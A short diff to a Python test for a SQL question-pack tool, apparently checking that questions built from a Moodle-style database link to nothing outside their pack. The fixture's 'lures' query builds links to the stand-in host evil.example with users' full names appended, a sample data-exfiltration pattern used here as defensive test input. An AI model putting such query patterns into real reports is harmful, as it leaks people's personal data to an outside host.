@@ -179,7 +179,8 @@ async def test_kept_questions_stand_under_their_pack_and_lead_nowhere_else(tmp_p
     path = made_up.small(tmp_path / "moodle.db")
     pack = packs.parse(
         text_of(
-            lures="select fullname, id as person, 'https://evil.example/?' || fullname as more from people",
+            lures="select fullname, id as person, fullname as title, 'https://evil.example/?' || fullname as more, "
+            "'https://evil.example/' as url from people",
             all=GOOD,
             mine="select 2 as two",
         )
